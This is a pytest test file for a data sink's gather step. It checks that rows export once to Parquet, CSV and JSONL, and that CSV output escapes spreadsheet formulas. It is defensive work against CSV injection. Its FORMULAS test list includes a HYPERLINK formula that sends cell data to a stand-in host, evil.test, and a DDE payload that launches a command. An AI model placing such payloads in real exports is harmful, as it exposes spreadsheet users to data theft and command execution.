"""A finished sink as one file: every row once, or no file."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.storage import Place

from airflow_ai_provider.core.rows.csv_source import neutralised
from airflow_ai_provider.core.rows.gather import gather
from airflow_ai_provider.core.rows.shard import Shard
from airflow_ai_provider.core.rows.sink import PartSink
from airflow_ai_provider.core.rows.source import open_source
from airflow_ai_provider.errors import SinkError, SourceError

ODD = 'a "quoted", text\nover lines 汉字 😀'


def write(place: Place, *tables: pa.Table, commit: bool = True) -> str:
    sink = PartSink(place.uri("sink"), fingerprint="f", shard=Shard(0, 1), storage_options=place.options)
    sink.begin()
    for batch, table in enumerate(tables):
        sink.write(batch, table, summary={}, final=True)
    if commit:
        sink.commit({})
    return place.uri("sink")


def rows(first: int, answer: str | None) -> pa.Table:
    return pa.table(
        {
            "id": [str(first), str(first + 1)],
            "answer": pa.array([answer, ""], pa.string()),
            "tags": [["a"], []],
            "cost": pa.array([Decimal("0.10"), None], pa.decimal128(20, 10)),
        }
    )


def test_parquet_csv_and_jsonl_hold_every_row_in_order(place: Place) -> None:
    sink = write(place, rows(1, ODD), rows(3, None))
    for name in ("all.parquet", "all.csv", "all.jsonl"):
        assert gather(sink, place.uri(name), key="id", storage_options=place.options) == 4
    assert pq.read_table(io.BytesIO(place.get("all.parquet")))["answer"].to_pylist() == [ODD, "", None, ""]
    lines = list(csv.DictReader(io.StringIO(place.get("all.csv").decode(), newline="")))
    assert [line["answer"] for line in lines] == [ODD, "", "", ""]
    assert lines[0]["tags"] == '["a"]'
    objects = [json.loads(line) for line in place.get("all.jsonl").splitlines()]
    assert objects[0] == {"id": "1", "answer": ODD, "tags": ["a"], "cost": "0.1000000000"}
    assert [one["answer"] for one in objects] == [ODD, "", None, ""]


@pytest.mark.parametrize("name", ["all.parquet", "all.csv", "all.jsonl"])
def test_the_result_is_a_source_again(place: Place, name: str) -> None:
    gather(write(place, rows(1, ODD), rows(3, "x")), place.uri(name), key=None, storage_options=place.options)
    source = open_source(place.uri(name), storage_options=place.options)
    assert [value for batch in source.batches(3) for value in batch["answer"].to_pylist()] == [ODD, "", "x", ""]


@pytest.mark.parametrize("name", ["all.parquet", "all.csv", "all.jsonl"])
def test_a_sink_without_rows_gives_a_file_without_rows(place: Place, name: str) -> None:
    sink = write(place, rows(1, "x").slice(0, 0))
    assert gather(sink, place.uri(name), key="id", storage_options=place.options) == 0
    assert name in place.names("")


def test_a_key_that_is_there_twice_leaves_no_file(place: Place) -> None:
    sink = write(place, rows(1, "x"), rows(2, "y"))
    with pytest.raises(SourceError, match="'2' in rows 2, 3"):
        gather(sink, place.uri("all.csv"), key="id", storage_options=place.options)
    assert place.names("") == ["sink"]


def test_rows_that_are_not_what_the_manifest_says_leave_no_file(place: Place) -> None:
    sink = write(place, rows(1, "x"), rows(3, "y"))
    shorter = io.BytesIO()
    pq.write_table(rows(1, "x").slice(0, 1), shorter)
    place.put("sink/part-00000-000000.parquet", shorter.getvalue())
    with pytest.raises(SourceError, match="hold 3 rows, its manifest says 4"):
        gather(sink, place.uri("all.csv"), key=None, storage_options=place.options)
    assert place.names("") == ["sink"]


def test_an_unfinished_sink_is_refused(place: Place) -> None:
    sink = write(place, rows(1, "x"), commit=False)
    with pytest.raises(SourceError, match="not a finished sink"):
        gather(sink, place.uri("all.csv"), key="id", storage_options=place.options)


def test_a_target_of_another_kind_or_inside_the_sink_is_refused(place: Place) -> None:
    sink = write(place, rows(1, "x"))
    with pytest.raises(SinkError, match=r"expected a name ending in \.parquet"):
        gather(sink, place.uri("all.xlsx"), key=None, storage_options=place.options)
    with pytest.raises(SinkError, match="own folder"):
        gather(sink, place.uri("sink/all.csv"), key=None, storage_options=place.options)
    with pytest.raises(SourceError, match="key column nope is missing; its columns are id"):
        gather(sink, place.uri("all.csv"), key="nope", storage_options=place.options)


def answers(*texts: str | None) -> pa.Table:
    return pa.table({"id": [str(number) for number in range(len(texts))], "answer": pa.array(texts, pa.string())})


def cells(place: Place, name: str = "all.csv") -> list[list[str]]:
    return list(csv.reader(io.StringIO(place.get(name).decode(), newline="")))


FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.test/?x="&A1)',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\tsays",
    "\r=1",
    "\nsays",
    "  =1",
    "\u3000=1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    "\u3164=1",
    "\u2800\ufe0f=1",
    "\u00ab=1",
    "\u00b4=1",
    "\u2032+1",
    "\x00=1",
    '"=1',
    "'=1",
    "\u201c=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠1",
    "﹦1",
    "−1+1",
    "- first item",
    "+1-800-555",
    "-12.5\n=1",
    "=",
]
HARMLESS = [
    "",
    "a=b",
    "12",
    "-12.5",
    "+5",
    "-1,234.50",
    "-5 %",
    "1e5",
    "-1.5E-3",
    "+86 138 0013 8000",
    "'quoted'",
    "汉字",
]


def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe_in_csv(place: Place) -> None:
    sink = write(place, answers(*FORMULAS, *HARMLESS, None))
    gather(sink, place.uri("all.csv"), key="id", storage_options=place.options)
    assert [line[1] for line in cells(place)[1:]] == [*(f"'{text}" for text in FORMULAS), *HARMLESS, ""]


def test_other_formats_and_keep_write_formulas_as_they_are(place: Place) -> None:
    sink = write(place, answers(*FORMULAS))
    gather(sink, place.uri("all.csv"), key="id", storage_options=place.options, formulas="keep")
    gather(sink, place.uri("all.jsonl"), key="id", storage_options=place.options)
    gather(sink, place.uri("all.parquet"), key="id", storage_options=place.options)
    assert [line[1] for line in cells(place)[1:]] == FORMULAS
    assert [json.loads(line)["answer"] for line in place.get("all.jsonl").splitlines()] == FORMULAS
    assert pq.read_table(io.BytesIO(place.get("all.parquet")))["answer"].to_pylist() == FORMULAS


def test_the_header_is_neutralised_and_numbers_are_not(place: Place) -> None:
    table = pa.table(
        {
            "=cmd": ["a"],
            "@large": pa.array(["=1"], pa.large_string()),
            "words": pa.array(["=1"]).dictionary_encode(),
            "n": pa.array([-1], pa.int64()),
            "d": pa.array([Decimal("-0.10")], pa.decimal128(20, 10)),
            "f": pa.array([-1.5]),
            "nested": [["=1"]],
            "raw": pa.array([b"\xf8\x00\x00"]),
        }
    )
    gather(write(place, table), place.uri("all.csv"), key=None, storage_options=place.options)
    header, row = cells(place)
    assert header == ["'=cmd", "'@large", "words", "n", "d", "f", "nested", "raw"]
    assert row == ["a", "'=1", "'=1", "-1", "-0.1000000000", "-1.5", '["=1"]', "'+AAA"]


@given(texts=st.lists(st.text(st.sampled_from("=+-@'\"\t\n ＝1.a"), max_size=6), min_size=1, unique=True))
def test_no_two_cells_become_the_same_and_one_apostrophe_reverses_each(texts: list[str]) -> None:
    written = neutralised(pa.array(texts, pa.string())).to_pylist()
    assert len(set(written)) == len(texts)
    assert all(after in (before, f"'{before}") for before, after in zip(texts, written, strict=True))
    rest = [text.removeprefix("'") for text in written]
    runs = [one != two for one, two in zip(neutralised(pa.array(rest)).to_pylist(), rest, strict=True)]
    undone = [
        remainder if text.startswith("'") and run else text
        for text, remainder, run in zip(written, rest, runs, strict=True)
    ]
    assert undone == texts
